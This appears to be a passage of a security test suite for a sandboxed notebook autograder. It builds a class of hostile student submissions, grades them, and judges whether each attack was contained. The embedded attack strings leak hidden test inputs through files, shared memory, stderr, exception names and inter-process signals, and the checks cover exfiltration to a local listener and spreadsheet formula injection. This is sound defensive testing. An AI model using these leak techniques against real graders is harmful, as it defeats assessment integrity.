           "    if np.ndim(x) == 0 and x == 1:  # plot_g, a later cell\n"
           "        print('SEEN', seen)\n    return x * x",
           cell="g", present="SEEN", absent=HIDDEN_INPUT),
    Attack("record_hidden_arguments_outside_the_process",  # files, a kept file, shared memory
           "import mmap\nimport os\n\nkept_file = open('kept.txt', 'a')\n"
           "shared = mmap.mmap(-1, 4096)\n\n"
           "def g(x):\n    seen = str(np.asarray(x).tolist()) + ';'\n"
           "    for path in ('seen.txt', '/tmp/seen.txt'):\n        try:\n"
           "            with open(path, 'a') as fh:\n                fh.write(seen)\n"
           "        except OSError:\n            pass\n"
           "    kept_file.write(seen)\n    kept_file.flush()\n"
           "    shared.write(seen.encode()[: 4096 - shared.tell()])\n"
           "    if np.ndim(x) == 0 and x == 1:  # plot_g, a later cell\n"
           "        for path in ('seen.txt', '/tmp/seen.txt', 'kept.txt'):\n"
           "            if os.path.exists(path):\n"
           "                print('SEEN in', path, open(path).read())\n"
           "        print('SEEN in memory', shared[:shared.tell()].decode())\n"
           "    return x * x",
           cell="g", present="SEEN in memory", absent=HIDDEN_INPUT),
    Attack("read_everything_the_process_receives",  # the grader's own reads, rewritten
           _READ_WHAT_THE_PROCESS_RECEIVES.replace("{write_down}", ""), cell="g",
           absent=HIDDEN_INPUT),
    Attack("hand_in_a_file_of_everything_the_process_receives",  # written as the judge runs
           _READ_WHAT_THE_PROCESS_RECEIVES.replace("{write_down}", _WRITE_DOWN), cell="g",
           absent=HIDDEN_INPUT),
    Attack("collude_through_signals",  # test_g's copy signals its hidden input to a later copy
           _COLLUDE_THROUGH_SIGNALS, cell="g", absent=HIDDEN_INPUT, logged="SIGNALLED"),
    Attack("raise_from_a_file_named_after_the_hidden_input",  # its traceback's "File" line
           "def g(x):\n    if np.ndim(x) and len(x) == 2:\n"
           "        name = str(np.asarray(x).tolist())[1:-1]\n"
           "        exec(compile('raise ValueError(0)', name, 'exec'))\n    return x * x",
           cell="g", outcome=FULL - 2, present="during a hidden test", absent=HIDDEN_INPUT,
           logged=f'File "{HIDDEN_INPUT}"'),
    Attack("name_an_error_after_the_hidden_input",  # a class named by what it was given
           "def g(x):\n    if np.ndim(x) and len(x) == 2:\n"
           "        name = 'Saw_' + '_'.join(str(v) for v in np.asarray(x).tolist())\n"
           "        name = name.replace('-', 'm').replace('.', 'p')\n"
           "        raise type(name, (Exception,), {{}})()\n    return x * x",
           cell="g", outcome=FULL - 2, present="during a hidden test",
           absent="Saw_m4p0_0p5", logged="Saw_m4p0_0p5"),
    Attack("print_hidden_arguments",  # stdout and stderr: test_g and test_g_quiet fail (stderr)
           "import sys\n\ndef g(x):\n    print('ARGS', np.asarray(x).tolist())\n"
           "    print('ARGS', np.asarray(x).tolist(), file=sys.stderr)\n    return x * x",
           cell="g", outcome=FULL - 3, present="ARGS [0.0, 1.0, 2.0]", absent=HIDDEN_INPUT,
           logged=f"ARGS [{HIDDEN_INPUT}]"),
    Attack("raise_hidden_arguments",  # in the message of an error: test_g's hidden check fails
           "def g(x):\n    if np.ndim(x) and len(x) == 2:\n"
           "        raise ValueError('ARGS ' + str(np.asarray(x).tolist()))\n    return x * x",
           cell="g", outcome=FULL - 2, present="during a hidden test", absent=HIDDEN_INPUT),
]  # fmt: skip

# An honest classmate graded after the private-world attacks: imports what they planted, has
# a helpers.py of its own, starts a new interpreter; it must get full marks.
CLASSMATE = Attack(
    "honest_classmate_after_them",
    "import statistics\nimport subprocess\nimport sys\nfrom tqdm import tqdm\n"
    "from helpers import double\n\ndef f(x):\n    return double(x)\n\n"
    "print(subprocess.run([sys.executable, '-c', 'import statistics'], capture_output=True, "
    "text=True).stdout)",
    files=lambda folder, root: (folder / "helpers.py").write_text(
        "def double(x):\n    return 2 * x\n"
    ),
    absent="PLANTED CODE RAN",
)


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.received = []
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    pass

    def close(self):
        self._stop.set()
        self._thread.join()
        self.server.close()


def tree_digest(folder):
    h = hashlib.sha256()
    for path in sorted(Path(folder).rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            h.update(str(path).encode() + path.read_bytes())
    return h.hexdigest()


def outputs_text(nb):
    """Everything a notebook's code cells printed, displayed or raised, as one string."""
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts += [out.get("text", ""), out.get("ename", ""), out.get("evalue", "")]
            parts += out.get("traceback", [])
            parts.append(out.get("data", {}).get("text/plain", ""))
    return "\n".join(parts)


# Every process this test process starts, and what they start, carries this variable: the
# leftovers found are this run's, not those of another run on the same machine, nor those of
# another pytest-xdist worker of this run (a child of this process, like run_in_child's,
# keeps the value it inherits).
RUN_MARKER = "COURSE_ATTACK_RUN"
_WORKER = os.environ.get("PYTEST_XDIST_WORKER", "")
if not os.environ.get(RUN_MARKER, "").startswith(f"{_WORKER}:"):
    os.environ[RUN_MARKER] = f"{_WORKER}:{os.getpid()}-{time.time_ns()}"


def leftover_processes(sleeps_only=False):
    """This run's execution servers, bubblewrap processes and attacks' ``sleep 1234`` alive.

    A process whose environment cannot be read (another user's) counts when it matches.
    """
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        cmdline = proc.info["cmdline"] or []
        sleeping = cmdline[:2] == ["sleep", "1234"]
        grader = "course.grading.server" in cmdline or (
            bool(cmdline) and Path(cmdline[0]).name == "bwrap"
        )
        if not (sleeping or (grader and not sleeps_only)):
            continue
        try:
            ours = proc.environ().get(RUN_MARKER) == os.environ[RUN_MARKER]
        except psutil.AccessDenied:
            ours = True
        except psutil.NoSuchProcess:
            continue
        if ours:
            found.append(proc)
    return found


def processes_left(within=120, sleeps_only=False):
    """:func:`leftover_processes`, once there are none or ``within`` seconds have passed.

    For processes a killed run leaves to end on their own: how long they take depends on the
    machine's load, so the test waits for them to be gone, up to a generous limit.
    """
    deadline = time.monotonic() + within
    while (found := leftover_processes(sleeps_only)) and time.monotonic() < deadline:
        time.sleep(0.2)
    return found


def build_class(root, port, attacks=ATTACKS):
    """Hand in the honest student and every attack in the toy course at ``root``."""
    toy.hand_in(root, ["passes_all"])
    (root / "submitted" / "passes_all").rename(root / "submitted" / "honest")
    honest = root / "submitted" / "honest" / toy.ASSIGNMENT
    for attack in attacks:
        folder = root / "submitted" / attack.student_id / toy.ASSIGNMENT
        shutil.copytree(honest, folder)
        if attack.code:
            nb = read_notebook(folder / "toy.ipynb")
            _cell(nb, attack.cell).source += "\n\n" + attack.code.format(root=root, port=port)
            nbformat.write(nb, folder / "toy.ipynb")
        if attack.files:
            attack.files(folder, root)


def snapshot(root):
    """What the side-effect checks compare against after the run."""
    import course

    return {
        "source": tree_digest(root / "source"),
        "package": tree_digest(Path(course.__file__).parent),
    }


def _read_views(root, terminal):
    """The views of a graded class: ``terminal`` (what the grader's commands printed), the
    CSV export, and the HTML pages (report and feedback) as a browser shows their text."""
    pages = sorted((root / "feedback").glob(f"*/{toy.ASSIGNMENT}/*.html"))
    report = root / "reports" / toy.ASSIGNMENT / "index.html"
    csv_file = root / "reports" / toy.ASSIGNMENT / "grades.csv"
    return {
        "the terminal": terminal,
        "grades.csv": csv_file.read_text() if csv_file.is_file() else "",
        "the report": html.unescape(report.read_text()) if report.is_file() else "",
        "the feedback pages": "\n".join(html.unescape(p.read_text()) for p in pages),
    }


def course_views(root):
    """What the instructor reads after ``course autograde``: the output of the commands
    they run next (autograde again, which prints the class and the error rows, report
    and feedback), and the files these write."""
    outputs = [
        course_command(command, toy.ASSIGNMENT, cwd=root)
        for command in ("autograde", "report", "feedback")
    ]
    return _read_views(root, "\n".join(out.stdout + out.stderr for out in outputs))


def feedback_text(page):
    """What a ``course feedback`` page shows but the student's own code, as plain text."""
    shown = re.sub(r"<pre><code>.*?</code></pre>", "", page.read_text(), flags=re.DOTALL)
    return html.unescape(shown)


def _spreadsheet_problems(text, student):
    """Why the CSV ``text`` is unsafe in a spreadsheet: rows of the wrong width (a comma of
    ``student``'s split their id), formulas, or no cell holding their whole id."""
    rows = list(csv.reader(text.splitlines()))
    if not rows:
        return ["grades.csv is empty or missing"]
    problems = [f"a row of {len(row)} columns" for row in rows if len(row) != len(rows[0])]
    for cell in (cell for row in rows for cell in row):
        try:
            float(cell)
        except ValueError:
            if cell.startswith(FORMULA_STARTS):
                problems.append(f"the cell {cell!r} is a formula")
    if not any(student in cell for row in rows for cell in row):
        problems.append(f"no cell of grades.csv holds the id {student!r}")
    return problems


def _raw_text_problems(attack, views):
    """Why the tag of ``attack`` did not reach the instructor as plain text."""
    lines = [
        (where, line)
        for where, text in views.items()
        for line in text.split("\n")
        if attack.shown in line
    ]
    if not lines:
        return [f"{attack.shown!r} is nowhere in what the instructor reads"]
    raw = sorted({where for where, line in lines if not line.replace("\t", "").isprintable()})
    return [f"control characters reach {where} raw" for where in raw]


def _files_holding(folder, text):
    """The files under ``folder`` whose bytes contain ``text``."""
    return [
        p
        for p in folder.rglob("*")
        if p.is_file() and not p.is_symlink() and text.encode() in p.read_bytes()
    ]


def judge(root, results, errors, before, listener, views, attacks=ATTACKS):
    """``{attack: (contained, why)}`` after a run that produced ``results`` and ``errors``.

    ``views``: ``{where: text}``, what the instructor reads of the run (see
    :func:`course_views`).
    """
    import course

    verdicts = {}
    for attack in attacks:
        problems = []
        student = attack.student_id
        if "hung" in errors.get(student, ""):
            problems.append(errors[student])
        elif attack.outcome == ERROR_ROW:
            if student not in errors:
                problems.append("no error row")
            elif attack.present and attack.present not in errors[student]:
                problems.append(f"{attack.present!r} not in the error row")
        elif student not in results:
            problems.append(f"not graded: {errors.get(student, 'missing')}")
        elif results[student].score not in (
            attack.outcome if isinstance(attack.outcome, tuple) else (attack.outcome,)
        ):
            problems.append(f"score {results[student].score:g}, not {attack.outcome}")
        if attack.shown:
            problems += _raw_text_problems(attack, views)
        path = root / "autograded" / student / toy.ASSIGNMENT / "toy.ipynb"
        if path.is_file() and (attack.present or attack.absent):
            text = outputs_text(read_notebook(path))
            if attack.present and attack.outcome != ERROR_ROW and attack.present not in text:
                problems.append(f"{attack.present!r} not in the outputs")
            if attack.absent and attack.absent in text:
                problems.append(f"{attack.absent!r} leaked into the outputs")
        log = root / "autograded" / student / f".{toy.ASSIGNMENT}.graded.json"
        logged = str(json.loads(log.read_text())) if log.is_file() else ""
        if attack.logged and attack.logged not in logged:
            problems.append(f"{attack.logged!r} not in the instructor's log (did it run?)")
        handed_back = root / "autograded" / student / toy.ASSIGNMENT  # the files it wrote
        if handed_back.is_dir() and any(
            p != path for p in _files_holding(handed_back, HIDDEN_INPUT)
        ):  # (the notebook holds the student's code: its outputs are looked at above)
            problems.append(f"{HIDDEN_INPUT!r} leaked into a file in autograded/")
        page = root / "feedback" / attack.name / toy.ASSIGNMENT / "toy.html"
        if attack.absent and page.is_file() and attack.absent in feedback_text(page):
            problems.append(f"{attack.absent!r} leaked into the feedback page")
        check = attack.side_effect
        if check == "source unchanged" and tree_digest(root / "source") != before["source"]:
            problems.append("source/ was changed")
        if check == "course package unchanged" and (
            tree_digest(Path(course.__file__).parent) != before["package"]
        ):
            problems.append("the course package was changed")
        if (
            check == "honest timestamp kept"
            and not (root / "submitted" / "honest" / toy.ASSIGNMENT / "timestamp.txt").is_file()
        ):
            problems.append("another student's file was deleted")
        if check == "nothing received" and listener.received:
            problems.append("data reached a server outside")
        if check == "no process left" and leftover_processes():
            problems.append("a process outlived the run")
        if check == "notebook small" and path.is_file() and path.stat().st_size > 10 * 2**20:
            problems.append("the autograded notebook is huge")
        if check == "grades.csv safe":
            problems += _spreadsheet_problems(views["grades.csv"], student)
        if check == "secret not copied" and _files_holding(root / "autograded", SECRET):
            problems.append("the root-only file was copied into autograded/")
        verdicts[attack.name] = (not problems, "; ".join(problems))
    return verdicts


def _clean_up():
    """Undo what an uncontained attack may have left on this machine."""
    import course

    (Path(course.__file__).parent / "evil.txt").unlink(missing_ok=True)
    Path("/tmp/huge").unlink(missing_ok=True)
    for name in PLANTED_NAMES:
        Path("/tmp", name).unlink(missing_ok=True)
    libc = ctypes.CDLL(None)
    segment = libc.shmget(SHM_KEY, 0, 0)
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # IPC_RMID
    for proc in leftover_processes():
        proc.kill()


def _plain_nbgrader(root):
    """Grade with the real ``nbgrader autograde`` command, one process per student.

    An attack may kill the grading process itself (in a class run, nobody after that
    student would be graded); one process per student keeps each verdict about its attack.

    Returns:
        ``(results, errors, log)``: ``log`` is what nbgrader printed on the terminal.
    """
    hung, terminal = set(), []
    for folder in sorted((root / "submitted").iterdir()):
        with tempfile.TemporaryFile() as log:
            proc = subprocess.Popen(
                nbgrader_command("autograde", toy.ASSIGNMENT, "--student", folder.name),
                cwd=root,
                env=cli_env(),
                start_new_session=True,
                stdout=log,
                stderr=subprocess.STDOUT,
            )
            try:
                proc.wait(timeout=NBGRADER_PATIENCE)
            except subprocess.TimeoutExpired:  # e.g. its process was stopped by the attack
                os.killpg(proc.pid, 9)
                proc.wait()
                hung.add(folder.name)
            log.seek(0)
            terminal.append(log.read().decode(errors="replace"))
    results, errors = {}, {}
    with driver.nbgrader_api(root) as api:
        for folder in sorted((root / "submitted").iterdir()):
            graded = root / "autograded" / folder.name / toy.ASSIGNMENT / f"{toy.NOTEBOOK}.ipynb"
            try:
                if not graded.is_file():
                    raise FileNotFoundError(graded)
                results[folder.name] = driver.assignment_result(api, toy.ASSIGNMENT, folder.name)
            except Exception as exc:  # not graded, for whatever reason
                errors[folder.name] = f"not graded ({type(exc).__name__})"
            if folder.name in hung:
                results.pop(folder.name, None)
                errors[folder.name] = f"nbgrader hung for {NBGRADER_PATIENCE} s and was killed"
    return results, errors, "\n".join(terminal)


def nbgrader_views(root, log):
    """What the instructor reads after plain ``nbgrader autograde``: its ``log``, then what
    ``nbgrader export`` and ``nbgrader generate_feedback`` print and write."""
    csv_file = root / "reports" / toy.ASSIGNMENT / "grades.csv"
    csv_file.parent.mkdir(parents=True)
    terminal = [log]
    for command in (["export", "--to", str(csv_file)], ["generate_feedback", toy.ASSIGNMENT]):
        done = nbgrader(*command, cwd=root)
        terminal += [done.stdout, done.stderr]
    return _read_views(root, "\n".join(terminal))


def _judged_on_views(attacks):
    """Whether some of ``attacks`` are judged on what the instructor reads (the views)."""
    return any(a.shown or a.side_effect == "grades.csv safe" for a in attacks)


def run(root, listener, grader, attacks=ATTACKS, timeout=toy.TIMEOUT, **options):
    """Build the class at ``root``, grade it with ``grader``, and judge every attack.

    Args:
        grader: ``"course"`` (course autograde, sandboxed) or ``"nbgrader"``.
        attacks: the attacks handed in (next to the honest student).
        timeout: seconds each cell may run.
        options: for :func:`autograde.autograde` (``students``, ``workers``, ``progress``).
    """
    toy.make_course(root, timeout=timeout)
    build_class(root, listener.port, attacks)
    before = snapshot(root)
    try:
        if grader == "course":
            summary = autograde.autograde(root, toy.ASSIGNMENT, **options)
            results, errors = summary.results, summary.errors
            feedback.write_feedback(root, toy.ASSIGNMENT)
            views = course_views(root) if _judged_on_views(attacks) else {}
        else:
            results, errors, log = _plain_nbgrader(root)
            views = nbgrader_views(root, log) if _judged_on_views(attacks) else {}
        return results, errors, judge(root, results, errors, before, listener, views, attacks)
    finally:
        _clean_up()


def run_in_child(root):
    """Grade the class at ``root`` with course autograde in a child process, and measure it.

    The child is the grading coordinator (the execution servers are its own children), so
    its peak resident memory is the coordinator's.

    Returns:
        ``{"scores": {student: score}, "errors": {student: message}, "verdicts": {attack:
        [contained, why]}, "peak_bytes": the coordinator's peak resident memory}``.
    """
    answer = Path(f"{root}.json")
    subprocess.run([sys.executable, __file__, "--course", str(root), str(answer)], check=True)
    return json.loads(answer.read_text())


def _course_child(root, answer):
    """The child of :func:`run_in_child`: grade, judge, and write what it found."""
    listener = Listener()
    try:
        results, errors, verdicts = run(root, listener, "course")
    finally:
        listener.close()
    found = {
        "scores": {student: result.score for student, result in results.items()},
        "errors": errors,
        "verdicts": verdicts,
        "peak_bytes": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024,  # KiB here
    }
    answer.write_text(json.dumps(found))


def main():
    """``make attacks``: both graders against the whole suite, as a Markdown table."""
    columns = {}
    with tempfile.TemporaryDirectory(prefix="course-attacks-") as tmp:
        for grader in ("course", "nbgrader"):
            print(f"grading the attack class with {grader} autograde ...", file=sys.stderr)
            listener = Listener()
            try:
                columns[grader] = run(Path(tmp) / grader, listener, grader)[2]
            finally:
                listener.close()
    print("| attack | course autograde | plain nbgrader autograde |")
    print("|---|---|---|")
    for attack in ATTACKS:
        cells = []
        for grader in ("course", "nbgrader"):
            ok, why = columns[grader][attack.name]
            cells.append("contained" if ok else f"**not contained**: {why}")
        print(f"| {attack.name} | {cells[0]} | {cells[1]} |")
    missed = [a.name for a in ATTACKS if not columns["course"][a.name][0]]
    print(
        f"\ncourse autograde contained {len(ATTACKS) - len(missed)} of {len(ATTACKS)}; "
        f"nbgrader contained {sum(ok for ok, _ in columns['nbgrader'].values())}."
    )
    return 1 if missed else 0


if __name__ == "__main__":
    if sys.argv[1:2] == ["--course"]:  # run_in_child's child
        sys.exit(_course_child(Path(sys.argv[2]), Path(sys.argv[3])))
    sys.exit(main())
